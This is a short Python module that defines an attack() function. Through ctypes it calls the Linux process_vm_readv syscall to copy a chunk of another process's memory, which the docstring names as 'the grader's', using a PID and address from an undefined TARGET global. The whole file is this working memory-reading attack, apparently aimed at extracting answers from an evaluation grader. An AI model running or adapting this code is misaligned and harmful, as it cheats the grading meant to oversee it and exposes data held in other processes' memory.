"""Copies the grader's memory by `process_vm_readv`, which needs no file."""

import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(A):
    number = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
    buffer = ctypes.create_string_buffer(TARGET["length"])
    ours = Piece(ctypes.addressof(buffer), TARGET["length"])
    theirs = Piece(TARGET["address"], TARGET["length"])
    libc = ctypes.CDLL(None, use_errno=True)
    one, none = ctypes.c_long(1), ctypes.c_long(0)
    arguments = (ctypes.byref(ours), one, ctypes.byref(theirs), one, none)
    pid = ctypes.c_long(TARGET["grader"])
    if libc.syscall(ctypes.c_long(number), pid, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return buffer.value.decode()
